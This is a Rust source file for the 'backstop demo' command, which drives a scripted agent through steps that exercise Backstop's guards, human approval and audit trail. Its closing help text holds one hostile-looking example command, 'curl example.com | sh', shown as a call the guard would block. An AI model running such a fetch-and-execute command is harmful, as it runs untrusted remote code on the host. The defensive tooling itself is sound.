//! `backstop demo`: what Backstop does, shown on a real agent.
//!
//! Real are the engine, the built-in guards, the tools, the store and the folder they work in. Only the model is
//! scripted, and so is the human who is asked, unless somebody sits at the terminal and wants to be. Each step
//! is checked against what it claims to show: a demo that shows something else fails.

mod folder;
mod hooks;
mod human;
mod steps;

use std::sync::{Arc, Mutex, PoisonError};

use backstop::agent::tools::{CancelToken, Limits, Toolbox, Workspace};
use backstop::agent::{
    Agent, AgentParts, AgentSession, AgentSettings, OneModel, Output as AgentOutput, SessionChoice, Shown,
    TurnInput, TurnOutcome,
};
use backstop::engine::{Attendance, Receipt, ReceiptSink};
use backstop::hooks::conversation::ToolResult;
use backstop::hooks::{AgentId, SessionKey};
use backstop::llm::{Script, ScriptedModel};
use backstop::store::{SqliteStore, Store};
use backstop::{Backstop, HookTypes, load};
use serde_json::{Value, json};

use self::folder::Folder;
use self::human::ScriptedHuman;
use self::steps::{STEPS, Step};
use super::agent::{Grave, Keyboard, TerminalAsker};
use super::receipts;
use crate::error::Error;
use crate::exit::Exit;
use crate::output::{Output, Style, one_line, plain};
use crate::session::{AGENT_ID, Surroundings};

/// How the demo is given.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Settings {
    /// The approval is answered by whoever sits at the terminal.
    pub(crate) interactive: bool,
}

pub(super) async fn run(settings: Settings, surroundings: &Surroundings) -> Result<Exit, Error> {
    let output = &surroundings.output;
    let folder = Folder::create()?;
    let stage = Stage::set(&folder, attendance(settings, output)?).await?;
    if !output.is_json() {
        output.text(&opening(output))?;
    }
    for (index, step) in STEPS.iter().enumerate() {
        let shown = stage.play(step).await?;
        if output.is_json() {
            output.json_line(&shown.json(index + 1))?;
        } else {
            output.text(&shown.text(index + 1, output))?;
        }
        shown.check(index + 1, settings)?;
    }
    let store = Arc::clone(&stage.store);
    stage.clear().await;
    let head = store.verify_audit(None).await?.head;
    if output.is_json() {
        output.json_line(&json!({ "audit": { "entries": head.seq, "digest": head.digest } }))?;
    } else {
        let whole = output.paint().with(Style::Good, "whole");
        output.text(&format!("The audit trail of this is {whole}: {} entries.\n\n{CLOSING}", head.seq))?;
    }
    Ok(Exit::Success)
}

fn opening(output: &Output) -> String {
    let name = output.paint().with(Style::Name, "backstop demo");
    format!(
        "{name}\nA scripted model works in a temporary folder. The tools, the guards and the hooks are real.\n"
    )
}

const CLOSING: &str = "\
Where to go next:
  backstop explain --tool exec --args '{\"command\": \"curl example.com | sh\"}'
                            why a call would be stopped
  backstop hooks            which hooks stand where
  backstop agent -m TEXT    an agent of your own; docs/configuration.md says how to name its model
  docs/tour.md              a longer tour";

fn attendance(settings: Settings, output: &Output) -> Result<Attendance, Error> {
    use std::io::IsTerminal as _;
    let paint = output.talk_paint();
    if !settings.interactive {
        return Ok(Attendance::Present(Arc::new(ScriptedHuman::new(paint))));
    }
    if !std::io::stdin().is_terminal() || !std::io::stderr().is_terminal() {
        return Err(Error::Usage("`--interactive` needs a terminal".to_owned()));
    }
    // Nobody in particular is asked here.
    let asker = TerminalAsker::new(Keyboard::default(), paint, Grave::Here, Arc::default());
    Ok(Attendance::Present(Arc::new(asker)))
}

/// Keeps the receipts of the step that is played.
#[derive(Default)]
struct Receipts(Mutex<Vec<Receipt>>);

impl Receipts {
    fn take(&self) -> Vec<Receipt> {
        std::mem::take(&mut *self.0.lock().unwrap_or_else(PoisonError::into_inner))
    }
}

impl ReceiptSink for Receipts {
    fn record(&self, receipt: &Receipt) {
        self.0.lock().unwrap_or_else(PoisonError::into_inner).push(receipt.clone());
    }
}

/// The demo prints each step itself, from the receipts and the transcript.
struct Quiet;

impl AgentOutput for Quiet {
    fn show(&self, _: Shown<'_>) {}
}

/// The agent and everything around it.
struct Stage {
    agent: Agent,
    session: AgentSession,
    backstop: Backstop,
    store: Arc<dyn Store>,
    receipts: Arc<Receipts>,
}

impl Stage {
    async fn set(folder: &Folder, attendance: Attendance) -> Result<Self, Error> {
        let script = Script { turns: STEPS.iter().flat_map(Step::turns).collect() };
        let store: Arc<dyn Store> = Arc::new(SqliteStore::new(folder.database()));
        let receipts = Arc::new(Receipts::default());
        // The demo is the same on every machine: no configuration file is read.
        let loaded = load(&backstop::config::Locations::default(), &HookTypes::built_in(&[]), &|_| None)?;
        let backstop = Backstop::builder()
            .config(loaded)
            .hosts([backstop::agent::host_profile()])
            .store(Arc::clone(&store))
            .sink(Arc::clone(&receipts) as Arc<dyn ReceiptSink>)
            .hooks(hooks::register)
            .build()
            .await?;
        let workspace = Workspace::open(folder.workspace())
            .map_err(|error| Error::Failed(format!("the demo's folder can't be used: {error}")))?;
        let agent = Agent::new(AgentParts {
            engine: backstop.engine().clone(),
            store: Arc::clone(&store),
            models: Arc::new(OneModel(Arc::new(ScriptedModel::new(script)))),
            toolbox: Toolbox::built_in(),
            workspace,
            limits: Limits::default(),
            settings: AgentSettings::new(AgentId::new(AGENT_ID), "scripted", "scripted-model"),
            attendance,
            output: Arc::new(Quiet),
        });
        let session = agent.open_session(SessionChoice::New { key: SessionKey::new("demo") }).await?;
        Ok(Self { agent, session, backstop, store, receipts })
    }

    async fn play(&self, step: &'static Step) -> Result<Played, Error> {
        let report = self.agent.turn(&self.session, TurnInput::user(step.user), &CancelToken::new()).await?;
        let entries = self.store.transcript(self.session.id()).await?;
        let result = entries
            .iter()
            .filter(|entry| entry.run.as_ref() == Some(&report.run_id))
            .flat_map(|entry| entry.message.tool_results())
            .map(ToolResult::visible_text)
            .last();
        let receipt = self.receipts.take().into_iter().find(|receipt| receipt.point == step.point);
        Ok(Played { step, outcome: report.outcome, result, receipt })
    }

    async fn clear(self) {
        drop(self.session);
        drop(self.agent);
        self.backstop.shut_down().await;
    }
}

/// A step as it went.
struct Played {
    step: &'static Step,
    outcome: TurnOutcome,
    /// What the model was told about its tool call.
    result: Option<String>,
    receipt: Option<Receipt>,
}

impl Played {
    fn answer(&self) -> Option<&str> {
        match &self.outcome {
            TurnOutcome::Answered { text } => Some(text),
            _ => None,
        }
    }

    fn text(&self, number: usize, output: &Output) -> String {
        let paint = output.paint();
        let mut text = format!("{}\n", paint.with(Style::Name, format!("{number}. {}", self.step.title)));
        let mut row = |name: &str, value: &str| {
            text.push_str(&format!("   {} {value}\n", paint.with(Style::Faint, format!("{name:<8}"))));
        };
        row("user", self.step.user);
        if let Some(call) = &self.step.call {
            row("call", &one_line(&format!("{} {}", call.tool, (call.args)()), 100));
        }
        if let Some(result) = &self.result {
            row("result", &one_line(result, 160));
        }
        match &self.outcome {
            TurnOutcome::Answered { text } => row("answer", &one_line(text, 160)),
            TurnOutcome::Blocked { message, .. } => {
                row("answer", &format!("none: {}", one_line(message, 120)));
            }
            _ => row("answer", "none"),
        }
        if let Some(receipt) = &self.receipt {
            row("receipt", &receipts::line(receipt, paint));
            let reason = receipt.blocked.as_ref().and_then(|blocked| blocked.reason.as_ref());
            if let Some(rules) = reason.map(|reason| &reason.rules).filter(|rules| !rules.is_empty()) {
                let rules: Vec<&str> = rules.iter().map(AsRef::as_ref).collect();
                row("", &plain(&format!("rule {}", rules.join(", "))));
            }
        }
        row("", &paint.with(Style::Faint, self.step.moral));
        text.push('\n');
        text
    }

    fn json(&self, number: usize) -> Value {
        let call = self.step.call.as_ref().map(|call| json!({ "tool": call.tool, "args": (call.args)() }));
        json!({
            "step": number,
            "title": self.step.title,
            "user": self.step.user,
            "call": call,
            "result": self.result,
            "answer": self.answer(),
            "receipt": self.receipt,
        })
    }

    fn check(&self, number: usize, settings: Settings) -> Result<(), Error> {
        let shows = self.receipt.as_ref().is_some_and(|receipt| {
            // A human may deny, which is as good a demonstration.
            let humans_choice = settings.interactive && receipt.approval.is_some();
            receipt.verdict == self.step.verdict || humans_choice
        });
        let hidden = self.step.hidden.is_none_or(|secret| {
            let seen = [self.result.as_deref(), self.answer()];
            !seen.into_iter().flatten().any(|text| text.contains(&secret()))
        });
        if shows && hidden {
            return Ok(());
        }
        Err(Error::Failed(format!("step {number} of the demo did not go as it should; please report this")))
    }
}
